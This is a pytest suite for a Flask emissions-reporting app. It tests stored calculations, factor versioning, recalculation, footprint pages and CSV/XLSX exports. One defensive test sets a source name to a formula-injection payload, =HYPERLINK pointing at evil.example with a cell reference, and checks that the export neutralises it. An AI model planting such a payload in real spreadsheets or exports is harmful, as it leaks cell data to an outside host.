"""Stored calculations, reproducibility, recalculation, the footprint pages and exports."""
import csv
import io
import re
from datetime import date
from decimal import Decimal

import pytest
from flask_babel import force_locale
from openpyxl import load_workbook
from sqlalchemy import select

from app.accounting.models import EmissionFactor, EmissionSource
from app.audit.models import AuditEvent
from app.core.numbers import rounded
from app.core.service_error import ServiceError
from app.extensions import db as _db
from app.filings import calculations, services, workflow
from app.filings.models import Calculation, Filing
from app.footprint.services import footprint, months_due, verified_by_month
from tests.conftest import login, post
from tests.helpers.filings import NOW, file_month

MONTH = date(2022, 6, 1)  # worked example 7 uses the 2022 national average grid factor


def _file_example_7(app, db, plant, period=MONTH, gas="38", approve_by=None):
    s = plant["sources"]
    with app.test_request_context():
        filing = services.open_filing(plant["admin"], plant["org"], period)
        services.set_activity(plant["admin"], filing, [
            {"source_id": s["gas"].id, "quantity": gas, "unit": "万Nm3"},
            {"source_id": s["diesel"].id, "quantity": "15.5", "unit": "t"},
            {"source_id": s["power"].id, "quantity": "2350.4", "unit": "MWh"},
            {"source_id": s["heat"].id, "quantity": "4200", "unit": "GJ"},
        ], production=[{"product_id": plant["product"].id, "quantity": "1000"}], output_value="5000")
        if approve_by is not None:
            workflow.submit(plant["admin"], filing, now=NOW)
            workflow.approve(approve_by, filing, now=NOW)
        db.session.commit()
        return filing.id


def test_stored_calculation_reproduces_worked_example_7(app, db, plant):
    filing_id = _file_example_7(app, db, plant)
    calc = db.session.scalar(select(Calculation).where(Calculation.filing_id == filing_id, Calculation.is_current))
    assert rounded(calc.scope1_tco2e, 3) == Decimal("869.618")
    assert rounded(calc.scope2_tco2e, 3) == Decimal("1723.225")
    assert rounded(calc.total_tco2e, 3) == Decimal("2592.843")
    assert calc.settings == {"gwp_set": "AR5", "grid_series": "national_average", "include_ch4_n2o": False}
    power = next(line for line in calc.lines if line.category == "purchased_electricity")
    grid = power.trace["factors"][0]
    assert grid["data_year"] == 2022 and grid["values"]["ef"] == "0.5366" and grid["version"] == 1
    # Every line names the factor row it used.
    stored_ids = {f["id"] for line in calc.lines for f in line.trace["factors"]}
    assert all(db.session.get(EmissionFactor, i) for i in stored_ids)


def test_a_month_without_a_published_grid_factor_uses_the_latest(app, db, plant):
    filing_id = _file_example_7(app, db, plant, period=date(2026, 3, 1))
    calc = db.session.get(Filing, filing_id).current_calculation
    power = next(line for line in calc.lines if line.category == "purchased_electricity")
    grid = power.trace["factors"][0]
    assert grid["data_year"] == 2023 and grid["values"]["ef"] == "0.5306"


def test_a_new_factor_version_never_changes_a_stored_result(app, db, plant):
    filing_id = _file_example_7(app, db, plant)
    before = db.session.scalar(select(Calculation.total_tco2e).where(Calculation.filing_id == filing_id))
    gas_v1 = db.session.scalar(select(EmissionFactor).where(EmissionFactor.kind == "fuel",
                                                            EmissionFactor.code == "natural_gas"))
    db.session.add(EmissionFactor(kind="fuel", code="natural_gas", version=2, unit=gas_v1.unit,
                                  values={**gas_v1.values, "carbon_content": "0.0160"}, valid_from=date(2000, 1, 1),
                                  source="test: a corrected carbon content"))
    db.session.commit()
    filing = db.session.get(Filing, filing_id)
    assert filing.current_calculation.total_tco2e == before

    # Recalculation is explicit: it stores a new current result and keeps the old one.
    with app.test_request_context():
        preview = calculations.preview(filing)
        assert preview.totals.total > before
        calculations.recalculate(filing, plant["admin"])
        db.session.commit()
    rows = db.session.scalars(select(Calculation).where(Calculation.filing_id == filing_id)
                              .order_by(Calculation.id)).all()
    assert [c.is_current for c in rows] == [False, True]
    assert rows[0].total_tco2e == before and rows[1].total_tco2e > before
    gas_line = next(line for line in rows[1].lines if line.category == "stationary_combustion")
    assert gas_line.trace["factors"][0]["version"] == 2
    assert db.session.scalar(select(AuditEvent).where(AuditEvent.action == "filing.recalculated"))


@pytest.mark.parametrize("line,message", [
    ({"quantity": "-5", "unit": "t"}, "cannot be negative"),
    ({"quantity": "abc", "unit": "t"}, "not a number"),
    ({"quantity": "10", "unit": "MWh"}, "cannot be converted to the unit of the source's factor"),
    ({"quantity": "10", "unit": "barrels"}, "barrels"),
])
def test_bad_input_names_the_source_and_month_and_stores_nothing(app, db, plant, line, message):
    diesel = plant["sources"]["diesel"]
    with app.test_request_context():
        filing = services.open_filing(plant["admin"], plant["org"], MONTH)
        db.session.commit()
        with pytest.raises(ServiceError) as error:
            services.set_activity(plant["admin"], filing, [{"source_id": diesel.id, **line}])
        db.session.rollback()
    with force_locale("en"):
        text = str(error.value.message)
    assert "厂内车辆" in text and "2022-06" in text and message in text
    assert db.session.scalars(select(Calculation)).all() == []


def test_missing_factor_is_reported(app, db, plant):
    with app.test_request_context():
        odd = EmissionSource(org_id=plant["org"].id, facility_id=plant["facility"].id, name="神秘燃料",
                             category="stationary_combustion", material="unobtainium", activity_unit="t")
        db.session.add(odd)
        filing = services.open_filing(plant["admin"], plant["org"], MONTH)
        with pytest.raises(ServiceError, match="神秘燃料, 2022-06") as error:
            services.set_activity(plant["admin"], filing, [{"source_id": odd.id, "quantity": "1", "unit": "t"}])
        db.session.rollback()
        # In the reader's words (Chinese by default), naming the kind of factor: never the engine's English.
        text = str(error.value.message)
        assert "排放因子库" in text and "燃料" in text and "factor" not in text and "unobtainium" in text


def test_footprint_page_and_how_computed(app, client, db, plant, regulator):
    _file_example_7(app, db, plant, approve_by=regulator)
    _file_example_7(app, db, plant, period=date(2022, 5, 1), gas="40", approve_by=regulator)
    login(client, plant["admin"])
    page = client.get("/footprint/?year=2022").get_data(as_text=True)
    assert 'data-total="total"' in page
    calc_ids = db.session.scalars(select(Calculation.id).where(Calculation.is_current).order_by(Calculation.id)).all()
    year_total = sum(db.session.get(Calculation, i).total_tco2e for i in calc_ids)
    assert f"{rounded(year_total, 3):,}" in page
    assert "锦湾示范化工有限公司" in page and "燃气锅炉" in page

    month = client.get(f"/footprint/calculations/{calc_ids[0]}").get_data(as_text=True)
    assert "2,592.843" in month
    line_id = db.session.get(Calculation, calc_ids[0]).lines[0].id
    detail = client.get(f"/footprint/lines/{line_id}").get_data(as_text=True)
    assert "NCV" in detail and "GB/T 2589" in detail and "389.31" in detail
    assert "低位发热量：GB/T 2589 附录A" in detail and "CC/OF" not in detail  # the citation as the library shows it


def test_exports_carry_the_stored_numbers(app, client, db, plant, regulator):
    filing_id = _file_example_7(app, db, plant, approve_by=regulator)
    org = plant["org"]
    login(client, plant["admin"])
    total = db.session.scalar(select(Calculation.total_tco2e).where(Calculation.filing_id == filing_id))
    csv_text = client.get(f"/footprint/export/{org.id}/2022.csv").get_data(as_text=True)
    assert "2022-06" in csv_text and str(total.quantize(Decimal("0.000001"))) in csv_text and "tCO2e" in csv_text
    book = load_workbook(io.BytesIO(client.get(f"/footprint/export/{org.id}/2022.xlsx").data))
    rows = list(book.worksheets[0].iter_rows(values_only=True))
    assert rows[4][0] == "2022-06" and abs(rows[4][8] - float(total)) < 1e-6


def test_exports_show_labels_not_codes_in_the_readers_language(app, client, db, plant, regulator):
    """Issue 16 (language): statuses, scopes and categories in the CSV and XLSX are labels, never codes; in English
    for a reader who chose English."""
    _file_example_7(app, db, plant, approve_by=regulator)
    org = plant["org"]
    codes = {"approved", "submitted", "draft", "stationary_combustion", "purchased_electricity", "purchased_heat",
             "mobile_combustion", "1", "2"}

    def cells(user):
        login(client, user)
        rows = list(csv.reader(io.StringIO(client.get(f"/footprint/export/{org.id}/2022.csv")
                                           .get_data(as_text=True).lstrip("\ufeff"))))
        book = load_workbook(io.BytesIO(client.get(f"/footprint/export/{org.id}/2022.xlsx").data))
        post(client, "/logout")
        return rows, [list(r) for sheet in book.worksheets for r in sheet.iter_rows(values_only=True)]

    for rows in cells(regulator):
        text = {str(v) for r in rows for v in r if v is not None}
        assert not text & codes
        assert {"已通过", "固定源燃料燃烧", "外购电力", "范围一", "范围二"} <= text
    regulator.locale = "en"
    db.session.commit()
    for rows in cells(regulator):
        text = {str(v) for r in rows for v in r if v is not None}
        assert not text & (codes - {"approved"})  # "approved" is the English basis column's word
        assert [r[2] for r in rows if r and r[0] == "2022-06"] == ["Approved"]
        assert {"Approved", "Stationary fuel combustion", "Purchased electricity", "Scope 1", "Scope 2"} <= text


def test_the_regulators_export_never_writes_an_enterprises_text_as_a_formula(app, client, db, plant, regulator):
    """Issue 16 #2: a source named =HYPERLINK(...) is text in the CSV and the XLSX, whoever downloads them."""
    _file_example_7(app, db, plant, approve_by=regulator)
    plant["sources"]["diesel"].name = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    plant["org"].name = "@锦湾示范化工"
    db.session.commit()
    login(client, regulator)
    rows = list(csv.reader(io.StringIO(client.get(f"/footprint/export/{plant['org'].id}/2022.csv")
                                       .get_data(as_text=True).lstrip("\ufeff"))))
    texts = [v for row in rows for v in row]
    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")" in texts and "'@锦湾示范化工" in texts
    assert not [v for v in texts if v.startswith(("=", "@", "\t", "\r"))]
    book = load_workbook(io.BytesIO(client.get(f"/footprint/export/{plant['org'].id}/2022.xlsx").data))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert not [c.value for c in cells if isinstance(c.value, str) and c.value.startswith(("=", "+", "@"))]


def test_recalculate_page_compares_old_and_new(app, client, db, plant, authority, make_user):
    filing_id = _file_example_7(app, db, plant)
    calc_id = db.session.scalar(select(Calculation.id).where(Calculation.filing_id == filing_id))
    regulator = make_user(authority, "regulator")
    login(client, regulator)
    page = client.get(f"/footprint/calculations/{calc_id}/recalculate").get_data(as_text=True)
    assert 'data-testid="recalc-table"' in page
    response = post(client, f"/footprint/calculations/{calc_id}/recalculate",
                    token_from=f"/footprint/calculations/{calc_id}/recalculate")
    assert response.status_code == 302
    assert len(db.session.scalars(select(Calculation).where(Calculation.filing_id == filing_id)).all()) == 2


def test_energy_manager_cannot_recalculate(app, client, db, plant, make_user):
    filing_id = _file_example_7(app, db, plant)
    calc_id = db.session.scalar(select(Calculation.id).where(Calculation.filing_id == filing_id))
    login(client, make_user(plant["org"], "energy_manager"))
    assert client.get(f"/footprint/calculations/{calc_id}/recalculate").status_code == 403


# --- approved figures by default; submitted and draft months apart ----------------------------------------

YEAR = 2022
GAS = {1: "38", 2: "39", 3: "40", 4: "41"}  # a different total each month, within the plausibility band


def _four_months(app, db, plant, regulator) -> dict[int, int]:
    """January and February approved, March submitted, April a draft: {month: filing id}."""
    ids = {}
    for month, gas in GAS.items():
        ids[month] = file_month(app, db, plant, period=date(YEAR, month, 1), amounts={"gas": gas},
                                submit=month <= 3, approve_by=regulator if month <= 2 else None)
    return ids


def db_total(filing_id, attr) -> Decimal:
    return getattr(_db.session.get(Filing, filing_id).current_calculation, attr)


def _total(filing_id) -> Decimal:
    return db_total(filing_id, "total_tco2e")


def test_footprint_totals_count_approved_months_only(app, db, plant, regulator):
    ids = _four_months(app, db, plant, regulator)
    with app.test_request_context():
        fp = footprint(plant["org"].id, YEAR, today=date(2026, 1, 15))
        for key, attr in (("total", "total_tco2e"), ("scope1", "scope1_tco2e"), ("scope2", "scope2_tco2e"),
                          ("exported", "exported_tco2e"), ("energy_tce", "energy_tce")):
            assert fp.totals[key] == db_total(ids[1], attr) + db_total(ids[2], attr), key
        assert fp.totals["total"] == _total(ids[1]) + _total(ids[2])
        assert fp.totals["total"] != _total(ids[1]) + _total(ids[2]) + _total(ids[3])  # the months differ
        # Intensities over the approved months only: 2 x 5,000 (10^4 CNY), 2 x 1,000 units of the product.
        assert fp.output_value == Decimal(10000)
        assert fp.intensity("value") == fp.totals["total"] / Decimal(10000)
        assert fp.intensity("product", fp.main_product) == fp.totals["total"] / Decimal(2000)
        # Breakdowns by source and facility add up to the approved months too.
        assert sum((r.co2e for r in fp.sources if r.scope in ("1", "2")), Decimal(0)) == \
            fp.totals["scope1"] + fp.totals["scope2"]
        assert all(set(r.months) <= {date(YEAR, 1, 1), date(YEAR, 2, 1)} for r in fp.sources)
        assert sum((v for _f, v in fp.facilities), Decimal(0)) == \
            fp.totals["scope1"] + fp.totals["scope2"] - fp.totals["exported"]
        # The month rows carry the approved revision only; March and April are provisional, with their own figures.
        assert [m.period.month for m in fp.months if m.calculation] == [1, 2]
        assert [(m.period.month, m.filing.status, m.calculation.total_tco2e, m.amends_approved)
                for m in fp.provisional] == [(3, "submitted", _total(ids[3]), False),
                                             (4, "draft", _total(ids[4]), False)]
        c = fp.counts
        assert (c.approved, c.submitted, c.draft, c.not_filed, c.due) == (2, 1, 1, 8, 12)


def test_future_months_are_not_missing(app, db, plant, regulator):
    _four_months(app, db, plant, regulator)
    assert months_due(YEAR, date(YEAR + 1, 1, 1)) == 12
    assert months_due(YEAR, date(YEAR, 12, 3)) == 12
    assert months_due(YEAR, date(YEAR - 1, 12, 31)) == 0
    with app.test_request_context():
        # On 3 May: January to May are due, May is not filed; June to December are not missing yet.
        c = footprint(plant["org"].id, YEAR, today=date(YEAR, 5, 3)).counts
        assert (c.approved, c.submitted, c.draft, c.not_filed, c.due) == (2, 1, 1, 1, 5)
        c = footprint(plant["org"].id, YEAR, today=date(YEAR, 4, 3)).counts
        assert (c.approved, c.submitted, c.draft, c.not_filed, c.due) == (2, 1, 1, 0, 4)


def test_an_amendment_of_an_approved_month_does_not_change_the_approved_totals(app, db, plant, regulator):
    ids = _four_months(app, db, plant, regulator)
    with app.test_request_context():
        before = footprint(plant["org"].id, YEAR).totals
        verified_before = verified_by_month(plant["org"].id, YEAR)
        amendment = workflow.amend(plant["admin"], plant["org"], date(YEAR, 2, 1), "燃气表读数更正")
        s = plant["sources"]
        services.set_activity(plant["admin"], amendment,
                              [{"source_id": s["gas"].id, "quantity": "45", "unit": "10^4 Nm3"}]
                              + [{"source_id": line.source_id, "quantity": line.quantity, "unit": line.unit}
                                 for line in amendment.lines if line.source_id != s["gas"].id],
                              [{"product_id": plant["product"].id, "quantity": "1000"}], "5000")
        db.session.commit()
        amended_total = amendment.current_calculation.total_tco2e
        assert amended_total > _total(ids[2])

        for status in ("draft", "submitted"):
            if status == "submitted":
                workflow.submit(plant["admin"], amendment, now=NOW)
                db.session.commit()
            fp = footprint(plant["org"].id, YEAR, today=date(2026, 1, 15))
            assert fp.totals == before
            assert fp.totals["total"] == _total(ids[1]) + _total(ids[2])
            february = fp.months[1]
            assert (february.filing.id, february.filing.status) == (ids[2], "approved")
            assert [(m.period.month, m.filing.status, m.filing.revision, m.amends_approved,
                     m.calculation.total_tco2e) for m in fp.provisional] == [
                (2, status, 2, True, amended_total), (3, "submitted", 1, False, _total(ids[3])),
                (4, "draft", 1, False, _total(ids[4]))]
            c = fp.counts
            assert (c.approved, c.submitted, c.draft, c.not_filed) == (2, 1, 1, 8)  # February stays approved
            # The compliance position's verified months keep their meaning.
            assert verified_by_month(plant["org"].id, YEAR) == verified_before

        workflow.approve(regulator, amendment, now=NOW)
        db.session.commit()
        fp = footprint(plant["org"].id, YEAR)
        assert fp.totals["total"] == _total(ids[1]) + amended_total
        assert [m.period.month for m in fp.provisional] == [3, 4]


def _cell(page: str, attr: str) -> str:
    return re.search(rf'{attr}>([^<]*)<', page).group(1).strip()


def test_footprint_page_shows_the_counts_and_the_provisional_months_apart(app, client, db, plant, regulator):
    ids = _four_months(app, db, plant, regulator)
    login(client, plant["admin"])
    page = client.get(f"/footprint/?year={YEAR}").get_data(as_text=True)
    approved_total = _total(ids[1]) + _total(ids[2])
    assert _cell(page, 'data-total="total"') == f"{rounded(approved_total, 1):,}"
    assert _cell(page, 'data-testid="year-total"') == f"{rounded(approved_total, 3):,}"
    counts = {key: re.sub(r"\D", "", _cell(page, f'data-count="{key}"'))
              for key in ("approved", "submitted", "draft", "not_filed")}
    assert counts == {"approved": "2", "submitted": "1", "draft": "1", "not_filed": "8"}
    assert _cell(page, 'data-count="approved"') == "已通过 2" and _cell(page, 'data-count="draft"') == "草稿 1"
    section = page.split('data-testid="provisional"')[1].split("</table>")[0]
    rows = re.findall(r'<tr data-period="([0-9-]+)" data-status="(\w+)">(.*?)</tr>', section, re.DOTALL)
    assert [(p, st) for p, st, _row in rows] == [("2022-03", "submitted"), ("2022-04", "draft")]
    for (_p, _st, row), month in zip(rows, (3, 4)):
        assert f"{rounded(_total(ids[month]), 3):,}" in row
        assert "暂定" in row  # marked provisional
    # The approved month table does not carry March's or April's figures.
    by_month = page.split('data-testid="by-month"')[1].split("</table>")[0]
    assert f"{rounded(_total(ids[3]), 3):,}" not in by_month and f"{rounded(_total(ids[4]), 3):,}" not in by_month

    # The regulator's page for the enterprise says the same.
    post(client, "/logout")
    login(client, regulator)
    page = client.get(f"/footprint/org/{plant['org'].id}?year={YEAR}").get_data(as_text=True)
    assert _cell(page, 'data-total="total"') == f"{rounded(approved_total, 1):,}"
    assert re.sub(r"\D", "", _cell(page, 'data-count="submitted"')) == "1"


def test_exports_state_their_basis_and_keep_provisional_months_apart(app, client, db, plant, regulator):
    ids = _four_months(app, db, plant, regulator)
    org = plant["org"]
    login(client, plant["admin"])
    places = Decimal("0.000001")
    rows = list(csv.reader(io.StringIO(client.get(f"/footprint/export/{org.id}/{YEAR}.csv")
                                       .get_data(as_text=True).lstrip("\ufeff"))))
    assert rows[1][0] == "口径" and "仅计已通过月份" in rows[1][1]
    assert [re.sub(r"\D", "", v) for v in rows[2][1:5]] == ["2", "1", "1", "8"]
    by_month = {r[0]: r for r in rows if r and re.fullmatch(r"2022-\d\d", r[0])}
    approved_rows = [r for r in rows if len(r) > 8 and r[1] == "已通过"]
    provisional_rows = [r for r in rows if len(r) > 8 and r[1] == "暂定"]
    assert [r[0] for r in approved_rows] == ["2022-01", "2022-02", "全年（已通过月份）"]
    assert Decimal(approved_rows[-1][8]) == (_total(ids[1]) + _total(ids[2])).quantize(places)
    assert [(r[0], r[2], Decimal(r[8])) for r in provisional_rows] == [
        ("2022-03", "已提交", _total(ids[3]).quantize(places)),
        ("2022-04", "草稿", _total(ids[4]).quantize(places))]
    assert set(by_month) == {"2022-01", "2022-02", "2022-03", "2022-04"}

    book = load_workbook(io.BytesIO(client.get(f"/footprint/export/{org.id}/{YEAR}.xlsx").data))
    months, provisional, sources = book.worksheets
    assert months.title == "月度（已通过）" and provisional.title == "暂定月份（不计入合计）"
    for sheet in book.worksheets:
        assert sheet.cell(2, 1).value == "口径" and "仅计已通过月份" in sheet.cell(2, 2).value
    data = list(months.iter_rows(min_row=5, values_only=True))
    assert [r[0] for r in data] == ["2022-01", "2022-02", "全年（已通过月份）"]
    assert abs(data[-1][8] - float(_total(ids[1]) + _total(ids[2]))) < 1e-6
    assert [(r[0], r[1], r[2]) for r in provisional.iter_rows(min_row=5, values_only=True)] == [
        ("2022-03", "暂定", "已提交"), ("2022-04", "暂定", "草稿")]
    assert all(r[5] == "已通过" for r in sources.iter_rows(min_row=5, values_only=True))
